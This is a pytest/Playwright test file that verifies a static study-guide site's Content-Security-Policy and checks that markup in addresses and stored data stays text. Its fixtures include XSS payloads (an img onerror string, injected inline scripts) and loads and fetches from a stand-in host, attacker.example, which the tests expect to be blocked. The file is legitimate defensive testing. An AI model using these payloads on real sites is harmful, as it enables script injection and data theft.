"""What a page may do and load, and that text stays text."""

import base64
import json
from hashlib import sha256
from pathlib import Path

import lxml.html
import page_kinds
import pytest
from playwright.sync_api import Browser, Page
from study_guide import finished_pages

# Chromium reports what the policy forbids as an event of the document.
WATCH = """globalThis.__refused = [];
document.addEventListener("securitypolicyviolation", (one) =>
  __refused.push(`${one.effectiveDirective} ${one.blockedURI} ${one.sample}`));
"""
# What an attacker's markup would do.
DONE = "globalThis.__attacked"
ATTACK = f'<img src=x onerror="{DONE}=1"><script>{DONE}=1</script>\'"`'


def opened(browser: Browser, url: str) -> Page:
    page = browser.new_context().new_page()
    page.add_init_script(WATCH)
    page.goto(url, wait_until="load")
    return page


def policy(text: str) -> dict[str, list[str]]:
    tree = lxml.html.document_fromstring(text)
    (content,) = tree.xpath(
        "//meta[@http-equiv='Content-Security-Policy']/@content"
    )
    return {
        words[0]: words[1:]
        for words in (part.split() for part in content.split(";"))
    }


def test_every_page_has_a_strict_policy_before_all_else(site: Path) -> None:
    for path in sorted(site.rglob("*.html")):
        text = path.read_text(encoding="utf-8")
        rules = policy(text)
        where = text.index("Content-Security-Policy")
        for loads in "<script", "<style", "<link":
            assert loads not in text[:where], path
        assert rules["default-src"] == ["'none'"]
        assert rules["connect-src"] == ["'self'"]
        assert rules["base-uri"] == ["'none'"]
        for name in "script-src", "style-src":
            assert rules[name][0] == "'self'"
            assert all(one.startswith("'sha256-") for one in rules[name][1:])
        assert rules["style-src-attr"] == ["'unsafe-inline'"]
        tree = lxml.html.document_fromstring(text)
        assert not tree.xpath("//@*[starts-with(name(), 'on')]"), path
        # Firefox fetches it, which the policy forbids.
        assert not tree.xpath("//head/link[@rel='next']"), path


def test_the_policy_allows_the_scripts_of_its_page_alone() -> None:
    page = (
        '<head><meta charset="utf-8"><script>a()</script>'
        '<script type="application/ld+json">{}</script>'
        '<script src="x.js"></script><style>p{}</style></head>'
    )
    rules = policy(finished_pages.with_policy(page))
    digest = base64.b64encode(sha256(b"a()").digest()).decode()
    assert rules["script-src"] == ["'self'", f"'sha256-{digest}'"]
    assert len(rules["style-src"]) == 2
    with pytest.raises(ValueError, match="charset"):
        finished_pages.with_policy("<p>no head</p>")


@pytest.mark.parametrize("start", ["served", "folder"])
def test_nothing_that_a_page_does_is_refused(
    browser: Browser, address: str, site: Path, start: str
) -> None:
    refused = []
    for _, _, path in page_kinds.typical(site):
        if start == "folder" and path.endswith("404.html"):
            continue  # it names files from the root of a server
        url = (
            address + path
            if start == "served"
            else page_kinds.file(site, path).as_uri()
        )
        page = opened(browser, url)
        if page.locator(".md-search").count():
            page.keyboard.press("/")
            page.keyboard.type("RoPE")
            page.locator(".md-search-result__item").first.wait_for()
            page.keyboard.press("Escape")
            assert page.evaluate("document.fonts.size") or not (
                page.locator(".katex").count()
            )
        refused += [
            f"{path or '/'}: {one}" for one in page.evaluate("__refused")
        ]
        page.context.close()
    assert not refused, "\n".join(refused)


def test_injected_scripts_and_foreign_files_are_refused(
    browser: Browser, address: str
) -> None:
    page = opened(browser, address + "en/")
    page.evaluate(
        f"""async () => {{
          const add = (tag, set) => {{
            const one = document.createElement(tag);
            Object.assign(one, set);
            document.body.append(one);
          }};
          add("script", {{textContent: "{DONE} = 1"}});
          add("script", {{src: "https://attacker.example/x.js"}});
          add("img", {{src: "https://attacker.example/x.png"}});
          add("style", {{textContent: "body {{ display: none }}"}});
          add("div", {{innerHTML: `<img src="data:," onerror="{DONE} = 1">`}});
          await fetch("https://attacker.example/").catch(() => {{}});
          await new Promise((resolve) => setTimeout(resolve, 200));
        }}"""
    )
    refused = " ".join(page.evaluate("__refused"))
    assert page.evaluate(f"{DONE} === undefined")
    assert page.locator("body").is_visible()
    for directive in (
        "script-src-elem inline",
        "script-src-elem https://attacker.example",
        "script-src-attr inline",
        "img-src https://attacker.example",
        "style-src-elem inline",
        "connect-src https://attacker.example",
    ):
        assert directive in refused
    page.context.close()


def test_markup_in_an_address_is_text(
    browser: Browser, address: str, site: Path
) -> None:
    for _, language, path in page_kinds.typical(site):
        if language != "en":
            continue
        page = opened(browser, address + path)
        page.evaluate(
            """async (attack) => {
              const url = new URL(location.href);
              for (const name of ["q", "h", "words", "topic", "level", "state",
                                  "plan", "question", "seed"])
                url.searchParams.set(name, attack);
              url.hash = attack;
              sessionStorage.setItem("url", url.href);
            }""",
            ATTACK,
        )
        page.goto(page.evaluate("sessionStorage.getItem('url')"))
        page.wait_for_timeout(300)
        assert page.evaluate(f"{DONE} === undefined"), path
        assert page.locator("img[src=x]").count() == 0, path
        assert page.evaluate("__refused") == [], path
        page.context.close()


def test_markup_in_what_is_stored_is_text(
    browser: Browser, address: str, site: Path
) -> None:
    hostile = {
        "version": 2,
        "begun": 0,
        "questions": {
            ATTACK: {"mark": ["known", 1]},
            "rope-idea": {"mark": [ATTACK, 1], "reviews": [[1, ATTACK]]},
            "kv-cache": {"known": ATTACK},
        },
    }
    for value in (json.dumps(hostile), ATTACK, json.dumps(ATTACK)):
        page = opened(browser, address + "en/")
        page.evaluate(
            """(value) => {
              for (const key of ["study-guide", "study-guide-scheme",
                                 "study-guide.aside"])
                localStorage.setItem(key, value);
            }""",
            value,
        )
        for _, language, path in page_kinds.typical(site):
            if language == "en":
                page.goto(address + path, wait_until="load")
                assert page.evaluate(f"{DONE} === undefined"), path
                assert page.locator("img[src=x]").count() == 0, path
                assert page.evaluate("__refused") == [], path
        page.context.close()
